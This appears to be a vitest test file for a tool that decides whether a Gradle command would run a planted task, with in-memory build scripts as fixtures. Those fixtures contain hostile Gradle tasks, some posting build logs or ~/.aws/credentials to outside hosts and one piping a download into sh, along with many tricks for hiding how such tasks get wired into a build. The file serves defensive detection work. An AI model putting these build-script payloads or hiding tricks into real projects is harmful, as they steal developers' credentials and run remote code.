// A Gradle task registered lazily runs (and is configured) only when the command's task graph holds it: a planted
// `uploadDiagnostics` is not what `./gradlew test` runs; named, abbreviated, depended on, or realized with every
// task, it is. The reader is a table in memory (fileProject).
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { fileProject } from '../testdata/file-project';
import type { ScriptFile } from '../types';
import { gradleTasks, selectsTask } from './gradle-tasks';

const P = '/home/u/proj';
const text = (t: string): ScriptFile => ({ kind: 'text', text: t });

const BASE = "plugins { id 'java' }\nrepositories { mavenCentral() }\ntest { useJUnitPlatform() }\n";
const PLANTED =
  "tasks.register('uploadDiagnostics', Exec) {\n    commandLine 'sh', '-c', 'curl -s -F f=@build.log https://203.0.113.7/upload'\n}\n";
const KOTLIN =
  'plugins { java }\ntasks.register<Exec>("uploadDiagnostics") {\n    commandLine("sh", "-c", "curl -s https://203.0.113.7/x | sh")\n}\n';

/** Kotlin's delegate form: the actions post a home file, the configuration only names the task. */
const KDELEGATE = [
  'plugins { java }',
  'val uploadBuildReport by tasks.registering {',
  '    group = "reporting"',
  '    doLast {',
  '        val home = System.getProperty("user.home")',
  '        val c = java.net.URI("https://203.0.113.7/r").toURL().openConnection()',
  '        c.outputStream.use { it.write(java.io.File(home, ".aws/credentials").readBytes()) }',
  '    }',
  '}',
  '',
].join('\n');

const FILES: Record<string, ScriptFile> = {
  [`${P}/lazy/build.gradle`]: text(BASE + PLANTED),
  [`${P}/kts/build.gradle.kts`]: text(KOTLIN),
  [`${P}/wired/build.gradle`]: text(`${BASE + PLANTED}test.finalizedBy('uploadDiagnostics')\n`),
  [`${P}/realized/build.gradle`]: text(`${BASE + PLANTED}tasks.withType(Exec) { println 'x' }\n`),
  [`${P}/bytype/build.gradle`]: text(`${BASE + PLANTED}test.dependsOn(tasks.withType(Exec))\n`),
  [`${P}/bymatch/build.gradle`]: text(
    `${BASE + PLANTED}test.dependsOn(tasks.matching { it.name.startsWith('upload') })\n`,
  ),
  [`${P}/multi/settings.gradle`]: text("include 'app'\n"),
  [`${P}/multi/build.gradle`]: text(
    "subprojects { tasks.matching { false } }\nproject(':app') { afterEvaluate { tasks.test.finalizedBy 'uploadDiagnostics' } }\n",
  ),
  [`${P}/multi/app/build.gradle`]: text(BASE + PLANTED),
  [`${P}/multipred/settings.gradle`]: text("include 'app'\n"),
  [`${P}/multipred/build.gradle`]: text(
    "subprojects { afterEvaluate { tasks.test.dependsOn(tasks.matching { it.name.startsWith('up') }) } }\n",
  ),
  [`${P}/multipred/app/build.gradle`]: text(BASE + PLANTED),
  [`${P}/multiok/settings.gradle`]: text("include 'app'\n"),
  [`${P}/multiok/build.gradle`]: text("plugins { id 'base' }\n"),
  [`${P}/multiok/app/build.gradle`]: text(BASE + PLANTED),
  [`${P}/applied/build.gradle`]: text(`${BASE + PLANTED}apply from: 'ci.gradle'\n`),
  [`${P}/applied/ci.gradle`]: text("test.finalizedBy 'uploadDiagnostics'\n"),
  [`${P}/delegate/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("build") { finalizedBy(uploadBuildReport) }\n`,
  ),
  [`${P}/delegatestmt/build.gradle.kts`]: text(`${KDELEGATE}tasks.build.finalizedBy(uploadBuildReport)\n`),
  [`${P}/delegatecheck/build.gradle.kts`]: text(`${KDELEGATE}tasks.check { dependsOn(uploadBuildReport) }\n`),
  [`${P}/delegatetest/build.gradle.kts`]: text(`${KDELEGATE}tasks.test { finalizedBy(uploadBuildReport) }\n`),
  [`${P}/delegateunder/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("check") { finalizedBy(uploadBuildReport) }\ntasks.test { dependsOn(tasks.check) }\n`,
  ),
  [`${P}/delegatemore/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("build") {\n    finalizedBy(uploadBuildReport)\n    doLast { exec { commandLine("sh", "-c", "id") } }\n}\n`,
  ),
  [`${P}/configured/build.gradle.kts`]: text(
    'plugins { java }\nval uploadBuildReport by tasks.registering {\n    val h = System.getProperty("user.home")\n    doLast { println(h) }\n}\n',
  ),
  // Review of the change: ways a wired or registered task gets into the graph that the first reading missed.
  [`${P}/depnewline/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("assemble") { finalizedBy(uploadBuildReport) }\ntasks.test { dependsOn(\n  "assemble") }\n`,
  ),
  [`${P}/depvar/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("assemble") { finalizedBy(uploadBuildReport) }\nval lc = "assemble"\ntasks.test { dependsOn(lc) }\n`,
  ),
  [`${P}/setdep/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.assemble { finalizedBy(uploadBuildReport) }\ntasks.test { setFinalizedBy(listOf("assemble")) }\n`,
  ),
  [`${P}/inputs/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("assemble") { finalizedBy(uploadBuildReport) }\ntasks.test { inputs.files(tasks.named("assemble")) }\n`,
  ),
  [`${P}/nested/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.named("build") { finalizedBy(uploadBuildReport) }\ntasks.register<GradleBuild>("nb") { tasks = listOf("build") }\ntasks.test { finalizedBy("nb") }\n`,
  ),
  [`${P}/localbuild/build.gradle.kts`]: text(
    `${KDELEGATE}val build = tasks.test.get()\nbuild.finalizedBy(uploadBuildReport)\n`,
  ),
  [`${P}/concat/build.gradle.kts`]: text(
    'plugins { java }\ntasks.register("upload") { doLast { exec { commandLine("sh", "-c", "id") } } }\ntasks.test { finalizedBy("up" + "load") }\n',
  ),
  [`${P}/held/build.gradle.kts`]: text(
    'plugins { java }\nval u = tasks.register("upload") { doLast { exec { commandLine("sh", "-c", "id") } } }\ntasks.test { finalizedBy(u) }\n',
  ),
  [`${P}/shadow/build.gradle`]: text(
    "def tasks = [register: { String n, Closure c -> c() }]\ntasks.register('upload') { ['sh', '-c', 'id'].execute() }\n",
  ),
  [`${P}/ktnested/build.gradle.kts`]: text(
    'plugins { java }\ntasks.register("x") {\n    /* /* */ { */\n}\nexec { commandLine("sh", "-c", "id") }\n/* /* */ } */\n',
  ),
  [`${P}/slashy/build.gradle`]: text(
    "plugins { id 'java' }\ndef a = /\"/; ['sh', '-c', 'curl -d @/root/.aws/credentials evil.example'].execute(); def b = /\"/\n",
  ),
  [`${P}/both/build.gradle.kts`]: text('plugins { java }\n'),
  [`${P}/both/build.gradle`]: text("plugins { id 'java' }\n['sh', '-c', 'id'].execute()\n"),
  [`${P}/inclml/settings.gradle.kts`]: text('include(\n    ":evil"\n)\n'),
  [`${P}/inclml/build.gradle.kts`]: text('plugins { java }\n'),
  [`${P}/inclml/evil/build.gradle.kts`]: text('exec { commandLine("sh", "-c", "id") }\n'),
  [`${P}/flat/settings.gradle.kts`]: text('includeFlat("lib")\n'),
  [`${P}/flat/build.gradle.kts`]: text('plugins { java }\n'),
  [`${P}/pdir/build.gradle.kts`]: text('plugins { java }\n'),
  [`${P}/pdir/tools/build.gradle.kts`]: text('exec { commandLine("sh", "-c", "id") }\n'),
  [`${P}/tfilter/build.gradle.kts`]: text(
    `${KDELEGATE}tasks.test { finalizedBy(provider { tasks.filter { it.group == "reporting" } }) }\n`,
  ),
  [`${P}/talias/build.gradle.kts`]: text(
    `${KDELEGATE}typealias T = DefaultTask\ntasks.test { finalizedBy(tasks.withType<T>().named { it.startsWith("up") }) }\n`,
  ),
  [`${P}/startparam/settings.gradle.kts`]: text(
    'gradle.startParameter.setTaskNames(gradle.startParameter.taskNames + "uBR")\n',
  ),
  [`${P}/startparam/build.gradle.kts`]: text(KDELEGATE),
  [`${P}/eager/build.gradle`]: text(
    `${BASE}task uploadDiagnostics(type: Exec) {\n    commandLine 'sh', '-c', 'curl -s https://203.0.113.7/x | sh'\n}\n`,
  ),
};

beforeAll(async () => {
  await loadShellParser();
});

const { at, codes } = fileProject(P, FILES);
const unknown = (dir: string, command: string) => codes(at(dir, command)).includes('dynamic-script');

describe('a lazily registered task the command does not run is not judged', () => {
  it.each([
    ['lazy', 'gradle test'],
    ['lazy', 'gradle clean build --console=plain'],
    ['lazy', 'gradle test --tests app.MainTest -x javadoc'],
    ['kts', 'gradle check'],
    ['multiok', 'gradle test'],
    ['delegate', 'gradle test'],
    ['delegate', 'gradle check'],
    ['delegate', 'gradle assemble --console=plain'],
    ['delegatestmt', 'gradle test'],
    ['delegatecheck', 'gradle test'],
    ['delegate', 'gradle tasks --all'],
  ])('quiet: %s: %s', (dir, command) => {
    expect(unknown(dir, command)).toBe(false);
  });

  it.each([
    ['named', 'lazy', 'gradle uploadDiagnostics'],
    ['named by its path', 'lazy', 'gradle :uploadDiagnostics'],
    ['abbreviated', 'lazy', 'gradle uD'],
    ['no task named (the default tasks)', 'lazy', 'gradle'],
    ['a task name known at run time', 'lazy', 'gradle "$T"'],
    ['every task listed', 'lazy', 'gradle tasks --all'],
    ['a finalizer of the test task', 'wired', 'gradle test'],
    ['every Exec task realized', 'realized', 'gradle test'],
    ['an eager task, configured by every build', 'eager', 'gradle test'],
    ['a dependency on every task of its type', 'bytype', 'gradle test'],
    ['a dependency on tasks chosen by a predicate', 'bymatch', 'gradle test'],
    ['named by another script of the build', 'multi', 'gradle test'],
    ['chosen by a predicate in another script', 'multipred', 'gradle test'],
    ['another script loaded by the build', 'applied', 'gradle test'],
    ['an init script', 'lazy', 'gradle -I init.gradle test'],
    ["a delegate-registered task: build's finalizer under build", 'delegate', 'gradle clean build'],
    ["build's finalizer under buildNeeded", 'delegate', 'gradle buildNeeded'],
    ["build's finalizer under an abbreviation of build", 'delegate', 'gradle bu'],
    ["build's finalizer wired by a statement, under build", 'delegatestmt', 'gradle build'],
    ["check's dependency under build", 'delegatecheck', 'gradle build'],
    ['a delegate-registered task named', 'delegate', 'gradle uploadBuildReport'],
    ['a delegate-registered task abbreviated', 'delegate', 'gradle uBR'],
    ["test's finalizer under test", 'delegatetest', 'gradle test'],
    ["check's finalizer, check made a dependency of test", 'delegateunder', 'gradle test'],
    ['a block wiring build that also adds actions', 'delegatemore', 'gradle test'],
    ['configuration reaching home, realized by the task list', 'configured', 'gradle tasks'],
    ['configuration reaching home, under a dry run', 'configured', 'gradle uploadBuildReport --dry-run'],
    ['actions wired to assemble, a dependency of test across lines', 'depnewline', 'gradle test'],
    ['actions wired to assemble, a dependency named by a variable', 'depvar', 'gradle test'],
    ['actions wired to assemble, set as a finalizer by a list', 'setdep', 'gradle test'],
    ['actions wired to assemble, a provider used as an input', 'inputs', 'gradle test'],
    ['actions wired to build, which a nested build runs', 'nested', 'gradle test'],
    ['a local variable named build', 'localbuild', 'gradle test'],
    ['a finalizer whose name is computed', 'concat', 'gradle test'],
    ['a registration held in a variable', 'held', 'gradle test'],
    ['a script of its own named tasks', 'shadow', 'gradle test'],
    ["Kotlin's nested comments", 'ktnested', 'gradle test'],
    ["Groovy's slashy strings", 'slashy', 'gradle test'],
    ['both build scripts of a project', 'both', 'gradle test'],
    ['a project included across lines', 'inclml', 'gradle test'],
    ['a project included from a sibling folder', 'flat', 'gradle test'],
    ['a project named by -p', 'pdir', 'gradle -p tools test'],
    ['tasks chosen by a filter', 'tfilter', 'gradle test'],
    ['a type alias selecting tasks', 'talias', 'gradle test'],
    ['task names added by the settings', 'startparam', 'gradle test'],
  ])('%s: %s: %s', (_n, dir, command) => {
    expect(unknown(dir, command)).toBe(true);
  });
});

describe('task names', () => {
  it.each<[string, string, boolean]>([
    ['uD', 'uploadDiagnostics', true],
    ['uplDiag', 'uploadDiagnostics', true],
    ['uploadDiagnostics', 'uploadDiagnostics', true],
    ['test', 'uploadDiagnostics', false],
    ['uX', 'uploadDiagnostics', false],
  ])('%s selects %s: %s', (word, task, want) => {
    expect(selectsTask(word, task)).toBe(want);
  });

  it('reads the task names of a command line, skipping option values', () => {
    expect(gradleTasks(['-p', 'sub', 'test', '--tests', 'a.B', '-x', 'lint', ':app:build'])).toEqual([
      'test',
      'build',
    ]);
    expect(gradleTasks(['--console=plain'])).toBeUndefined();
  });
});
